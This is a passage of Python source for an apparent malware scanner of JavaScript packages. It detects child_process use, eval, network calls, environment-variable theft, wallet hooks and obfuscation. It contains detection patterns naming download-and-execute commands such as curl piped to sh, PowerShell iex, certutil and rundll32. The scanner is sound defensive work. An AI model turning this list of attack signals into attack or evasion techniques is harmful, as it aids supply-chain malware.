def _template_chunk(text: str, start: int, add: Any, depth: list[int]) -> int:
    m = _TEMPLATE_CHUNK.match(text, start)
    assert m is not None  # the pattern matches the empty string
    end = m.end()
    add(start, end, _TEMPLATE)
    if text.startswith("${", end):
        depth.append(0)
        return end + 2
    return end + 1


_ESCAPE = re.compile(
    r"\\(?:x([0-9a-fA-F]{2})|u([0-9a-fA-F]{4})|u\{([0-9a-fA-F]{1,6})\}|([0-7]{1,3})|(\r\n|[\s\S]))"
)
_SIMPLE_ESCAPES = {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f", "v": "\v", "0": "\0"}


def _unescape(raw: str) -> str:
    """The value of a JavaScript string literal's body."""

    def one(m: re.Match[str]) -> str:
        hex2, hex4, brace, octal, other = m.groups()
        code = hex2 or hex4 or brace
        if code is not None:
            value = int(code, 16)
            return chr(value) if value <= 0x10FFFF else ""
        if octal is not None:
            return chr(int(octal, 8))
        if other in ("\n", "\r\n", "\r", "\u2028", "\u2029"):
            return ""  # line continuation
        return _SIMPLE_ESCAPES.get(other, other)

    return _ESCAPE.sub(one, raw)


# -- signals -------------------------------------------------------------------------------


class _Signals:
    """Collects signals of one file: first occurrence per (name, value), bounded."""

    def __init__(self, text: str, lengths: Sequence[int] | None = None) -> None:
        self.text = text
        self._lengths = lengths
        #: the offset just after each newline, worked out when first needed (from the line
        #: lengths when given; an array: 4 bytes a line). A last entry past the text, from
        #: the lengths, is never counted.
        self._after_newlines: Sequence[int] | None = None
        self.found: dict[tuple[str, str], Signal] = {}
        self.per_name: Counter[str] = Counter()

    def after_newlines(self) -> Sequence[int]:
        """The offset just after each newline of the text."""
        if self._after_newlines is None:
            typecode = offset_typecode(len(self.text))
            if self._lengths is not None:
                ones = itertools.repeat(1)
                ends = itertools.accumulate(map(operator.add, self._lengths, ones))
                self._after_newlines = array(typecode, ends)
            else:
                found = (m.end() for m in re.finditer("\n", self.text))
                self._after_newlines = array(typecode, found)
        return self._after_newlines

    def line(self, offset: int) -> int:
        """The 1-based line of ``offset``: one more than the newlines before it."""
        return bisect.bisect_right(self.after_newlines(), offset) + 1

    def add(self, name: str, category: str, offset: int, value: str = "") -> None:
        value = value[:MAX_VALUE]
        key = (name, value)
        if key in self.found:
            return
        if self.per_name[name] >= MAX_VALUES_PER_SIGNAL:
            return
        self.per_name[name] += 1
        self.found[key] = Signal(name=name, line=self.line(offset), value=value, category=category)

    def result(self) -> tuple[Signal, ...]:
        return tuple(sorted(self.found.values(), key=lambda s: (s.line, s.name, s.value)))


# Node core modules whose import is a capability
_MODULE_SIGNALS = {
    "child_process": "child-process",
    "vm": "vm",
    "http": "http",
    "https": "http",
    "http2": "http",
    "net": "net",
    "tls": "net",
    "dgram": "net",
    "dns": "dns",
    "dns/promises": "dns",
    "ws": "websocket",
}
# names that reveal a capability even as a bare string (string arrays of obfuscated code
# hold them for `obj[lookup(i)]()`); chosen because ordinary code seldom spells them alone
_REVEALING_STRINGS = {
    "child_process": ("child-process", "child_process"),
    "execSync": ("child-process", "execSync"),
    "spawnSync": ("child-process", "spawnSync"),
    "execFileSync": ("child-process", "execFileSync"),
    "writeFileSync": ("fs-write", "writeFileSync"),
    "appendFileSync": ("fs-write", "appendFileSync"),
    "createWriteStream": ("fs-write", "createWriteStream"),
    "unlinkSync": ("fs-delete", "unlinkSync"),
    "rmSync": ("fs-delete", "rmSync"),
    "rmdirSync": ("fs-delete", "rmdirSync"),
    "userInfo": ("os-info", "userInfo"),
    "networkInterfaces": ("os-info", "networkInterfaces"),
    "eth_sendTransaction": ("wallet-hook", "eth_sendTransaction"),
    "eth_requestAccounts": ("wallet-hook", "eth_requestAccounts"),
    "eth_accounts": ("wallet-hook", "eth_accounts"),
    "eth_signTypedData_v4": ("wallet-hook", "eth_signTypedData_v4"),
    "personal_sign": ("wallet-hook", "personal_sign"),
    "solana_signTransaction": ("wallet-hook", "solana_signTransaction"),
    "_compile": ("module-compile", "_compile"),
}
# One scan for string literals that are a module name (group 2: a capability when the code
# before is require( / import( / from) or a revealing name (group 3: wherever it is).
_NAME_LITERAL = re.compile(
    r"""(['"`])(?:(?:node:)?(child_process|vm|https?|http2|net|tls|dgram|dns(?:/promises)?|ws)"""
    r"""|("""
    + "|".join(re.escape(k) for k in _REVEALING_STRINGS if k != "child_process")
    + r"""))\1"""
)
_IMPORTS_BEFORE = re.compile(r"(?:\b(?:require|__require|import)\s*\(|\bfrom|\bimport)\s*\Z")
# Every pattern that scans a whole file starts with a literal, so that the regex engine
# jumps between occurrences of it (10-30 times faster than a leading \b or lookbehind); the
# "not part of a longer name" test is a lookbehind placed after the literal. Related checks
# share one pattern, because each pass over a 10 MB bundle costs about 15 ms.
_GLOBAL_OBJECT_BEFORE = re.compile(r"\b(?:window|globalThis|global|self)\s*\.\s*\Z")
#: a loop condition that compares with Infinity, right before the ``Infinity`` found: a loop
#: that never ends (colors 1.4.1's ``for (let i = 666; i < Infinity; i++)``)
_ENDLESS_LOOP_BEFORE = re.compile(
    r"(?:\bfor\s*\([^()]{0,200};[^();]{0,200}|\bwhile\s*\([^()]{0,200})<=?\s*\Z"
)
_WALLET_OWNER_BEFORE = re.compile(
    r"\b(?:window|globalThis|self|top|parent)\s*(?:\.\s*|\[\s*['\"])\Z"
)
# obj.name( or obj['name']( for file-system, OS and vm members
_MEMBER_SIGNALS = {
    **dict.fromkeys(
        _words(
            "writeFileSync writeFile appendFileSync appendFile createWriteStream copyFileSync"
            " copyFile outputFileSync outputFile chmodSync chmod"
        ),
        "fs-write",
    ),
    **dict.fromkeys(
        _words("unlinkSync unlink rmdirSync rmdir rmSync rm removeSync emptyDirSync"), "fs-delete"
    ),
    **dict.fromkeys(_words("userInfo hostname networkInterfaces homedir"), "os-info"),
    **dict.fromkeys(_words("runInNewContext runInThisContext runInContext compileFunction"), "vm"),
    # Module.prototype._compile: run a string as a module (flatmap-stream's loader)
    "_compile": "module-compile",
}
_MEMBER_CALL = re.compile(
    r"""(?:\.\s*|\[\s*['"])("""
    + "|".join(sorted(_MEMBER_SIGNALS, key=lambda k: (-len(k), k)))
    + r""")(?:['"]\s*\])?\s*\("""
)


@attrs.frozen
class _CodePattern:
    """A capability found by a pattern in code (or in a ``obj['key']`` member key)."""

    name: str
    pattern: re.Pattern[str]
    #: a literal the text must contain for the pattern to be worth running (or one of them)
    needle: str | tuple[str, ...]
    #: "member": preceded by ``.`` only when the object is a global (window.fetch);
    #: "new": ``Function(`` only after ``new`` or with a string argument;
    #: "dot": only as a member (``x.constructor("...")``); "wallet": on window and friends;
    #: "key": also as a member key (``window['eval'](...)``);
    #: "loop": ``Infinity`` as the bound of a ``for``/``while`` condition
    context: str = ""


_CODE_PATTERNS: tuple[_CodePattern, ...] = (
    # eval(...), (0, eval)(...), obj['eval'](...)
    _CodePattern(
        "eval",
        re.compile(r"eval(?:(?<![\w$]eval)\s*(?:\(|\)\s*\()|(?<=['\"]eval)['\"]\s*\]\s*\()"),
        "eval",
        "key",
    ),
    _CodePattern("eval", re.compile(r"set(?<![\w$.]set)(?:Timeout|Interval)\s*\(\s*['\"`]"), "set"),
    _CodePattern(
        "new-function",
        re.compile(r"Function(?<![\w$.]Function)\s*\(\s*(['\"`])?"),
        "Function",
        "new",
    ),
    _CodePattern("new-function", re.compile(r"constructor\s*\(\s*['\"`]"), "constructor", "dot"),
    _CodePattern("fetch", re.compile(r"fetch(?<![\w$]fetch)\s*\("), "fetch", "member"),
    _CodePattern(
        "xhr", re.compile(r"XMLHttpRequest(?<![\w$.]XMLHttpRequest)(?![\w$])"), "XMLHttpRequest"
    ),
    _CodePattern("websocket", re.compile(r"WebSocket(?<![\w$.]WebSocket)(?![\w$])"), "WebSocket"),
    _CodePattern("fs-delete", re.compile(r"(rimraf)(?<![\w$.]rimraf)(?:\.sync)?\s*\("), "rimraf"),
    # `for (...; i < Infinity; ...)`, `while (n < Infinity)`: a loop that never ends
    # (the literal first, then the lookbehind: re then searches for the literal, 20x faster)
    _CodePattern(
        "endless-loop", re.compile(r"Infinity(?<![\w$.]Infinity)(?![\w$])"), "Infinity", "loop"
    ),
    # a fresh Module to compile code into
    _CodePattern(
        "module-compile", re.compile(r"new\s+module\s*\.\s*constructor(?![\w$])"), "constructor"
    ),
    _CodePattern(
        "wallet-hook",
        re.compile(
            r"(ethereum|solana|phantom|web3|tronWeb|tronLink|BinanceChain|keplr|okxwallet"
            r"|coinbaseWalletExtension)(?![\w$])"
        ),
        (
            "ethereum",
            "solana",
            "phantom",
            "web3",
            "tronWeb",
            "tronLink",
            "BinanceChain",
            "keplr",
            "okxwallet",
            "coinbaseWalletExtension",
        ),
        "wallet",
    ),
)
_PROCESS_ENV = re.compile(
    r"process(?<![\w$.]process)\s*(?:\.\s*env|\[\s*['\"]env['\"]\s*\])(?![\w$])"
    r"(?:\s*\.\s*([A-Za-z_$][\w$]{0,100})|\s*\[\s*(['\"])([^'\"\\\n]{1,100})\2\s*\])?"
)
_STRINGIFY = re.compile(r"stringify(?:['\"]\s*\])?\s*\(")
_URL_SEARCH_PARAMS = re.compile(r"URLSearchParams\s*\(")
_BARE_ENV = re.compile(r"process\s*(?:\.\s*env|\[\s*['\"]env['\"]\s*\])(?!\s*[.\[\w$])")
_MEMBER = r"""(?:\.\s*|\[\s*['"])"""
_CALL = r"""(?:['"]\s*\])?\s*\("""
_CHMOD_CALL = re.compile(
    _MEMBER + r"chmod(?:Sync)?" + _CALL + r"[^,()]{1,200},\s*(0o[0-7]{3,4}|0[0-7]{3}|[1-9]\d{2,3}"
    r"|['\"][0-7]{3,4}['\"])"
)

# -- obfuscation
_HEX_IDENT = re.compile(r"_0x(?<![\w$]_0x)[0-9a-fA-F]{3,8}(?![\w$])")
_ROTATION_LOOP = re.compile(r"while\s*\(\s*(?:!!\s*\[\s*\]|--\s*[\w$]{1,40})\s*\)")
_PUSH_SHIFT = re.compile(
    r"""[\w$]{1,40}\s*(?:\[\s*(['"])push\1\s*\]|\.push)\s*\(\s*[\w$]{1,40}\s*"""
    r"""(?:\[\s*(['"])shift\2\s*\]|\.shift)\s*\(\s*\)\s*\)"""
)
_ESCAPED_ASCII = re.compile(
    r"\\(?:x[2-7][0-9a-fA-F]|u00[2-7][0-9a-fA-F])(?:\\(?:x[2-7][0-9a-fA-F]|u00[2-7][0-9a-fA-F]))*+"
)
_JSFUCK = re.compile(r"[\[\]()!+]{200,}+")
_BASE64_RUN = re.compile(r"(?<![A-Za-z0-9+/_-])[A-Za-z0-9+/]{256,}+={0,2}")
_HEX_DIGITS = frozenset("0123456789abcdefABCDEF")
_BASE64_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=-_"
_DELETE_BASE64 = str.maketrans("", "", _BASE64_ALPHABET)
#: bits per character: English prose and code in strings stay under 5.4; base64 of random
#: bytes is 6, of compressed or encrypted data 5.9 and more
_HIGH_ENTROPY = 5.5
_PACKER = re.compile(
    r"eval\s*\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,\s*[dr]\s*\)"
)

# -- network literals
_URL = re.compile(r"(?i)\b(?:https?|wss?|ftp)://[^\s\"'`<>\\{}|^]{1,2000}")
# whole-file scans start at the literal "://" and check the scheme before it
_URL_REST = re.compile(r"://[^\s\"'`<>\\{}|^]{1,2000}")
_URL_SCHEME = re.compile(r"(?i)(?<![\w+.-])(?:https?|wss?|ftp)\Z")
_OCTET = r"(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)"
_IPV4 = re.compile(rf"(?<![\w.\-/]){_OCTET}(?:\.{_OCTET}){{3}}(?![\w.\-])")
# whole-file scans start at the first dot and look back for the first octet
_IPV4_REST = re.compile(rf"\.{_OCTET}\.{_OCTET}\.{_OCTET}(?![\w.\-])")
_HOSTNAME = re.compile(r"(?i)(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.){1,10}[a-z]{2,24}")
_QUOTED_HOST = re.compile(r"(?i)(['\"`])((?>[a-z0-9-]{1,63}\.){1,10}[a-z]{2,24})\1")
# TLDs accepted for a bare string like "pastebin.com": the common generic ones and country
# codes, minus those that are also file extensions or common property names (.sh .md .py
# .rs .so .pl .id .name .js ...). Hosts inside URLs need no list.
_TLDS = _words(
    "com net org info biz io co me ai app dev xyz top site online club shop store tech cloud "
    "live icu pro pw cc su ws tk ml ga cf gq buzz work click help host space website fun vip "
    "one today world news email run page tools link network digital services support systems "
    "ltd inc company agency group solutions center zone life social media blog xin win bid loan "
    "men date trade review racing party download stream ninja rocks cyou cfd sbs lol mom quest "
    "bond beauty hair skin makeup monster rest best ru cn uk de fr jp kr br nl it es pl ch se "
    "no fi dk be at cz sk hu ro bg gr tr ua by kz ir in pk bd vn th my sg hk tw au nz za ng ke "
    "eg ma mx ar cl pe ve us ca eu asia tv fm gg ly to vc la nu tw im is la li lv lt ee hr rs "
    "si ba md ge am az uz il sa ae qa kw"
) - _words("sh md py rs so pl pm js ts id name map")

# -- scripts
# words that make a string literal worth the script checks, matched in ASCII-lowered bytes
# (not the short PowerShell aliases iwr/irm/iex: "confirm" and "firmware" contain them, and
# a command line that uses them names powershell too)
_SCRIPT_WORDS = (
    b"curl wget powershell pwsh rundll32 chmod bitsadmin certutil invoke- download"
).split()
_SCRIPT_TRIGGER = re.compile(b"|".join(_SCRIPT_WORDS))


def _script_triggers(lowered: bytes) -> list[int]:
    """Where the script words occur, in order: one ``find`` pass per word (each word is a
    literal, which ``find`` skips through far faster than a regex of alternatives)."""
    starts: list[int] = []
    for word in _SCRIPT_WORDS:
        at = lowered.find(word)
        while at >= 0:
            starts.append(at)
            at = lowered.find(word, at + 1)
    starts.sort()
    return starts


# Script patterns look for the rare part first (a pipe into a shell, an -EncodedCommand)
# and then back along the same command for the rest, so that no pattern rescans the text
# after every "curl" in a hostile line of a million of them.
_INTO_SHELL = re.compile(
    r"(?i)\|\s*(?:sudo\s+(?:-\S+\s+){0,3})?(?:ba|z|k|da|a)?sh\b|\|\s*(?:iex|invoke-expression)\b"
)
_FETCHER = re.compile(r"(?i)\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b")
_SUBSHELL_FETCH = re.compile(r"(?i)\b(?:ba|z)?sh\s+(?:-c\s+)?['\"]?(?:\$\(|<\()\s*(?:curl|wget)\b")
_PS_DOWNLOAD = re.compile(r"(?i)\b(?:downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\b")
_IEX = re.compile(r"(?i)\b(?:iex|invoke-expression)\b")
# a download tool followed by an argument (an option, a URL or a variable): the bare word
# "curl" in a user-agent list or a sentence is no download
_DOWNLOAD = re.compile(
    r"(?i)(?<![\w.-])(curl|wget|invoke-webrequest|iwr|invoke-restmethod|irm|start-bitstransfer"
    r"|bitsadmin)(?:\.exe)?[ \t]+(?:-{1,2}[a-z]|/[a-z]|['\"]?(?:(?:https?|ftp)://|\$|%\w))"
    r"|(?<![\w.-])(certutil)(?:\.exe)?(?:[ \t]+[-/]\w+){0,4}?[ \t]+[-/]urlcache\b"
    r"|\.(downloadstring|downloadfile)\s*\("
)
_ENCODED_COMMAND = re.compile(
    r"(?i)(?<=\s)[-/]e(?:c|n|nc|nco|ncod|ncode|ncoded|ncodedcommand)?\s+['\"]?"
    r"([A-Za-z0-9+/]{8,}={0,2})"
)
_POWERSHELL = re.compile(r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b")
_RUNDLL32 = re.compile(r"(?i)\brundll32(?:\.exe)?(?![\w.-])[ \t]*([^\n\"'&|;]{0,100}+)")
_CHMOD_EXEC = re.compile(
    r"(?i)\bchmod\s+(?:-[a-z]+\s+){0,4}+([ugoa]*\+[rwxXst]*x[rwxXst]*|0?[0-7]{3,4})(?![\w])"
)


def _command_start(text: str, end: int, separators: str, limit: int) -> int:
    """Where the command that ends at ``end`` starts: after the last separator, at most
    ``limit`` characters back."""
    low = max(0, end - limit)
    return max([low] + [text.rfind(c, low, end) + 1 for c in separators])


def _chmod_mode(mode: str, *, javascript: bool) -> str | None:
    """The mode as shown in a signal when it makes the file executable, else None.

    Shell modes are symbolic or octal; a JavaScript mode is a number literal (``493``,
    ``0o755``, legacy ``0755``) or an octal string (``"755"``)."""
    if "+" in mode:
        return mode if "x" in mode else None
    quoted = mode[:1] in "'\""
    mode = mode.strip("'\"")
    try:
        if javascript and not quoted and not mode.startswith("0"):
            value = int(mode)
        else:
            value = int(mode.removeprefix("0o").removeprefix("0O") or "0", 8)
    except ValueError:
        return None
    return f"0o{value:o}" if value & 0o111 else None


def _first_argument(text: str, start: int, limit: int = 400) -> str:
    """The text of a call's first argument starting at ``start`` (just after the ``(``), cut
    at the comma or bracket that ends it, or after ``limit`` characters."""
    depth = 0
    end = min(len(text), start + limit)
    for i in range(start, end):
        c = text[i]
        if c in "([{":
            depth += 1
        elif c in ")]}":
            if depth == 0:
                return text[start:i]
            depth -= 1
        elif c in ",;" and depth == 0:
            return text[start:i]
    return text[start:end]


class _Analyzer:
    """Signals of one text file."""

    def __init__(
        self, text: str, lexed: _Lexed | None, lengths: Sequence[int] | None = None
    ) -> None:
        self.text = text
        self.lexed = lexed
        self.sig = _Signals(text, lengths)
        self._lowered: bytes | None = None

    @property
    def lowered(self) -> bytes:
        """The text in ASCII lower case, one byte per character (offsets are unchanged)."""
        if self._lowered is None:
            self._lowered = self.text.encode("ascii", "replace").lower()
        return self._lowered

    def in_code(self, offset: int) -> bool:
        return self.lexed is None or self.lexed.at(offset) == -1

    def in_string(self, offset: int) -> bool:
        """In a string or template literal (scripts have no lexer: everything counts)."""
        return self.lexed is None or self.lexed.at(offset) in (_STRING, _TEMPLATE)

    def in_code_or_key(self, offset: int) -> bool:
        """In code, or in a string literal used as a member key (``obj['key']``)."""
        if self.lexed is None:
            return True
        i = bisect.bisect_right(self.lexed.starts, offset) - 1
        if i < 0 or offset >= self.lexed.ends[i]:
            return True
        if self.lexed.kinds[i] != _STRING:
            return False
        return self.before(self.lexed.starts[i], 8).endswith("[")

    def string_starts_at(self, offset: int) -> bool:
        if self.lexed is None:
            return False
        i = bisect.bisect_left(self.lexed.starts, offset)
        return i < len(self.lexed.starts) and self.lexed.starts[i] == offset

    def before(self, offset: int, width: int = 40) -> str:
        """Up to ``width`` characters before ``offset``, trailing whitespace removed."""
        return self.text[max(0, offset - width) : offset].rstrip()

    def urls(self, start: int = 0, end: int | None = None) -> Iterable[re.Match[str]]:
        """Matches of ``_URL`` in the text, found from each ``://``."""
        text = self.text
        for m in _URL_REST.finditer(text, start, len(text) if end is None else end):
            scheme = _URL_SCHEME.search(text, max(0, m.start() - 5), m.start())
            if scheme is not None:
                found = _URL.match(text, scheme.start())
                if found is not None:
                    yield found

    def ips(self) -> Iterable[re.Match[str]]:
        """Matches of ``_IPV4`` in the text, found from the dot after the first octet."""
        text = self.text
        for m in _IPV4_REST.finditer(text):
            found = _IPV4.match(text, max(0, m.start() - 3), m.end())
            if found is None:
                found = _IPV4.match(text, max(0, m.start() - 2), m.end())
            if found is None:
                found = _IPV4.match(text, max(0, m.start() - 1), m.end())
            if found is not None and found.end() == m.end():
                yield found

    # -- JavaScript --------------------------------------------------------------------

    def javascript(self, lengths: Sequence[int], minified: bool) -> None:
        text, sig = self.text, self.sig
        for m in _NAME_LITERAL.finditer(text):
            if not self.string_starts_at(m.start()):
                continue
            module = m.group(2)
            if module == "child_process" or (
                module is not None and _IMPORTS_BEFORE.search(self.before(m.start()))
            ):
                sig.add(_MODULE_SIGNALS[module], CAPABILITY, m.start(), module)
            elif m.group(3) is not None:
                name, value = _REVEALING_STRINGS[m.group(3)]
                sig.add(name, CAPABILITY, m.start(), value)
        for m in _MEMBER_CALL.finditer(text):
            if self.in_code_or_key(m.start()):
                sig.add(_MEMBER_SIGNALS[m.group(1)], CAPABILITY, m.start(), m.group(1))
        for cp in _CODE_PATTERNS:
            needles = (cp.needle,) if isinstance(cp.needle, str) else cp.needle
            if not any(n in text for n in needles):
                continue
            for m in cp.pattern.finditer(text):
                if self._code_match(cp, m):
                    value = next((g for g in m.groups() if g and g not in "'\"`"), "")
                    sig.add(cp.name, CAPABILITY, m.start(), value)
        if "process" in text:
            self._process_env()
        if "chmod" in text:
            for m in _CHMOD_CALL.finditer(text):
                shown = _chmod_mode(m.group(1), javascript=True)
                if shown is not None and self.in_code(m.start()):
                    sig.add("chmod-exec", CAPABILITY, m.start(), shown)
        self._strings()
        self._obfuscation(lengths, minified)

    def _code_match(self, cp: _CodePattern, m: re.Match[str]) -> bool:
        start = m.start()
        if cp.context in ("", "key"):
            return self.in_code_or_key(start) if cp.context else self.in_code(start)
        before = self.before(start)
        if cp.context == "member":
            return self.in_code(start) and (
                not before.endswith(".") or _GLOBAL_OBJECT_BEFORE.search(before) is not None
            )
        if cp.context == "new":
            return self.in_code(start) and (m.group(1) is not None or before.endswith("new"))
        if cp.context == "dot":
            return self.in_code(start) and before.endswith(".")
        if cp.context == "loop":
            window = self.before(start, 420)
            return self.in_code(start) and _ENDLESS_LOOP_BEFORE.search(window) is not None
        # "wallet"
        return self.in_code_or_key(start) and _WALLET_OWNER_BEFORE.search(before) is not None

    def _process_env(self) -> None:
        text, sig = self.text, self.sig
        for m in _PROCESS_ENV.finditer(text):
            if self.in_code(m.start()):
                sig.add("env-read", CAPABILITY, m.start(), m.group(1) or m.group(3) or "")
        calls = _STRINGIFY.finditer(text) if "stringify" in text else iter(())
        if "URLSearchParams" in text:
            calls = itertools.chain(calls, _URL_SEARCH_PARAMS.finditer(text))
        for m in calls:
            if not self.in_code_or_key(m.start()):
                continue
            if _BARE_ENV.search(_first_argument(text, m.end())) is not None:
                sig.add("env-serialize", CAPABILITY, m.start(), "")

    def _strings(self) -> None:
        """Network literals and script commands in string literals, and what hides in them."""
        text, sig, lexed = self.text, self.sig, self.lexed
        assert lexed is not None
        if "://" in text:
            for m in self.urls():
                if self.in_string(m.start()):
                    self._url(m.group(), m.start())
        for m in self.ips():
            if self.in_string(m.start()):
                sig.add("ip", NETWORK_LITERAL, m.start(), m.group())
        for m in _QUOTED_HOST.finditer(text):
            if self.string_starts_at(m.start()) or self.string_starts_at(m.start() + 1):
                self._bare_domain(m.group(2), m.start())
        # a command line in a string: the checks read a window around each script word of
        # the literal (a whole module shipped as a string can be megabytes long)
        done = -1
        for at in _script_triggers(self.lowered):
            i = bisect.bisect_right(lexed.starts, at) - 1
            if i < 0 or at < done or at >= lexed.ends[i]:
                continue
            if lexed.kinds[i] not in (_STRING, _TEMPLATE):
                continue
            start = max(lexed.starts[i], at - 500)
            done = min(lexed.ends[i], at + 1000)
            body = text[start:done]
            if "\\" in body:
                body = _unescape(body)
            self.script(body, start)
        # strings whose value hides behind escapes or base64
        for s, e, k in zip(lexed.starts, lexed.ends, lexed.kinds, strict=True):
            if k in (_COMMENT, _REGEX) or e - s < 6:
                continue
            if text.find("\\", s, e) >= 0:
                body = text[s + 1 : e - 1] if k == _STRING else text[s:e]
                self._hidden(_unescape(body), s, "escaped")
            elif 10 <= e - s <= 8192:
                body = text[s + 1 : e - 1] if k == _STRING else text[s:e]
                decoded = (
                    _short_hex(body) if e - s < 18 else _short_base64(body) or _short_hex(body)
                )
                if decoded is not None:
                    self._hidden(decoded, s, "base64")

    def _hidden(self, value: str, offset: int, how: str) -> None:
        """Checks on the value of an escaped or a base64- or hex-encoded string literal
        (``how`` is "escaped" or "base64", which covers both encodings)."""
        sig = self.sig
        revealed = _REVEALING_STRINGS.get(value.strip())
        if revealed is not None:
            sig.add(revealed[0], CAPABILITY, offset, revealed[1])
        elif value.strip().removeprefix("node:") in _MODULE_SIGNALS and how == "base64":
            name = value.strip().removeprefix("node:")
            sig.add(_MODULE_SIGNALS[name], CAPABILITY, offset, name)
        if "://" in value:
            for m in _URL.finditer(value):
                self._url(m.group(), offset)
        if "." in value:
            for m in _IPV4.finditer(value):
                sig.add("ip", NETWORK_LITERAL, offset, m.group())
            if _HOSTNAME.fullmatch(value.strip()):
                self._bare_domain(value.strip(), offset)
        if _SCRIPT_TRIGGER.search(value.encode("ascii", "replace").lower()):
            self.script(value, offset)

    def _url(self, url: str, offset: int) -> None:
        url = url.rstrip(".,;:!?)]'")
        try:
            host = urllib.parse.urlsplit(url).hostname
        except ValueError:
            return
        if not host:
            return
        self.sig.add("url", NETWORK_LITERAL, offset, url)
        try:
            ipaddress.ip_address(host)
        except ValueError:
            if _HOSTNAME.fullmatch(host) or host == "localhost":
                self.sig.add("domain", NETWORK_LITERAL, offset, host)
        else:
            self.sig.add("ip", NETWORK_LITERAL, offset, host)

    def _bare_domain(self, host: str, offset: int) -> None:
        tld = host.rsplit(".", 1)[-1].lower()
        if tld in _TLDS:
            self.sig.add("domain", NETWORK_LITERAL, offset, host.lower())

    def _obfuscation(self, lengths: Sequence[int], minified: bool) -> None:
        text, sig, lexed = self.text, self.sig, self.lexed
        assert lexed is not None
        if "_0x" in text:
            names: Counter[str] = Counter()
            first = -1
            for m in _HEX_IDENT.finditer(text):
                if self.in_code(m.start()):
                    names[m.group()] += 1
                    if first < 0:
                        first = m.start()
            # one or two `_0x` names turn up in ordinary code; obfuscator output has dozens
            if len(names) >= 5:
                value = f"{len(names)} names, {sum(names.values())} uses"
                sig.add("obfuscator-identifiers", OBFUSCATION, first, value)
        if "while" in text and ("push" in text and "shift" in text):
            for m in _ROTATION_LOOP.finditer(text):
                if not self.in_code(m.start()):
                    continue
                window = text[m.end() : m.end() + 1500]
                ps = _PUSH_SHIFT.search(window)
                if ps is not None and (ps.group(1) or "parseInt" in window[: ps.start()]):
                    sig.add("string-array-rotation", OBFUSCATION, m.start())
                    break
        self._escapes()
        if "function" in text:
            for m in _PACKER.finditer(text):
                if self.in_code(m.start()):
                    sig.add("packer", OBFUSCATION, m.start())
                    break
        for m in _JSFUCK.finditer(text) if "+[]" in text else ():
            run = m.group()
            if self.in_code(m.start()) and "!" in run and "[" in run and "+" in run:
                sig.add("jsfuck", OBFUSCATION, m.start(), f"{len(run)} chars")
                break
        if not minified:
            self._long_lines(lengths)
        self._blobs()

    def _escapes(self) -> None:
        """``\\x``/``\\u`` escapes spelling plain ASCII: no one writes them by hand."""
        text, lexed = self.text, self.lexed
        assert lexed is not None
        if "\\x" not in text and "\\u00" not in text:
            return
        escaped = 0
        first = -1
        longest = 0
        for m in _ESCAPED_ASCII.finditer(text):
            if lexed.at(m.start()) not in (_STRING, _TEMPLATE):
                continue
            count = m.group().count("\\")
            escaped += count
            longest = max(longest, count)
            if first < 0:
                first = m.start()
        string_chars = sum(
            e - s for s, e, k in zip(lexed.starts, lexed.ends, lexed.kinds, strict=True) if k < 2
        )
        # a run of eight escaped letters ("\x63\x68\x69\x6c\x64...") or a tenth of all the
        # string text spelled in escapes
        if longest >= 8 or (escaped >= 24 and escaped * 4 >= 0.1 * string_chars):
            self.sig.add("hex-escapes", OBFUSCATION, first, f"{escaped} escapes")

    def _long_lines(self, lengths: Sequence[int]) -> None:
        """A very long, dense line of code in an otherwise readable file: the shape of a
        payload injected into a shipped file. Minified files never qualify (their kind says
        it), nor do files of many long lines and few short ones."""
        if max(lengths) < 1000:
            return
        # counted by C loops, without a sorted copy (a file may have millions of lines)
        short = sum(map((0).__lt__, lengths)) - sum(map((199).__lt__, lengths))  # 1..199
        long = sum(map(_IS_LONG, lengths))
        if short < 20 or short < 4 * long:
            return
        after_newlines = self.sig.after_newlines()  # where each line but the first starts
        for i in itertools.compress(range(len(lengths)), map((999).__lt__, lengths)):
            pos, n = after_newlines[i - 1] if i else 0, lengths[i]
            if not self._line_is_data(pos, pos + n):
                self.sig.add("long-line", OBFUSCATION, pos, f"{n} chars")

    def _line_is_data(self, start: int, end: int) -> bool:
        """Mostly literals or comments, spaced out, or a list without statements: not the
        dense code an injected payload is."""
        lexed = self.lexed
        assert lexed is not None
        i = bisect.bisect_right(lexed.starts, start) - 1
        covered = 0
        longest = 0
        i = max(i, 0)
        while i < len(lexed.starts) and lexed.starts[i] < end:
            s, e = max(lexed.starts[i], start), min(lexed.ends[i], end)
            if e > s:
                covered += e - s
                longest = max(longest, e - s)
            i += 1
        length = end - start
        if longest >= 0.8 * length or covered >= 0.95 * length:
            return True
        if covered >= 0.6 * length:
            return True
        line = self.text[start:end]
        if line.count(" ") + line.count("\t") >= 0.04 * length:
            return True  # spaced out: written or formatted for people
        # statements need ;{}= (obfuscator output: 2-4%); a generated list of names or
        # numbers (an export list, a table) has next to none
        return sum(line.count(c) for c in ";{}=") < 0.01 * length

    def _blobs(self) -> None:
        """Large base64 and hex blobs, and long high-entropy strings."""
        text, sig, lexed = self.text, self.sig, self.lexed
        assert lexed is not None
        long_literals = [
            (s, e)
            for s, e, k in zip(lexed.starts, lexed.ends, lexed.kinds, strict=True)
            if k <= _TEMPLATE and e - s >= 258
        ]
        runs = (m for s, e in long_literals for m in _BASE64_RUN.finditer(text, s, e))
        for m in runs:
            run = m.group()
            if len(run) >= 512 and set(run) <= _HEX_DIGITS:
                sig.add("hex-blob", OBFUSCATION, m.start(), f"{len(run) // 2} bytes")
                continue
            if len(run) < 512 or not _mixed(run):
                continue
            prefix = text[max(0, m.start() - 64) : m.start()]
            described = _describe_base64(run, prefix)
            if described is not None:
                sig.add("base64-blob", OBFUSCATION, m.start(), described)
        for s, e in long_literals:
            body = text[s + 1 : e - 1] if lexed.at(s) == _STRING else text[s:e]
            # base64 and hex are reported as blobs; tables of non-ASCII characters (Unicode
            # ranges) are dense by nature
            if len(body.translate(_DELETE_BASE64)) < 0.1 * len(body):
                continue
            if not body.isascii() and len(body.encode("ascii", "ignore")) < 0.9 * len(body):
                continue
            entropy = _entropy(body)
            if entropy >= _HIGH_ENTROPY:
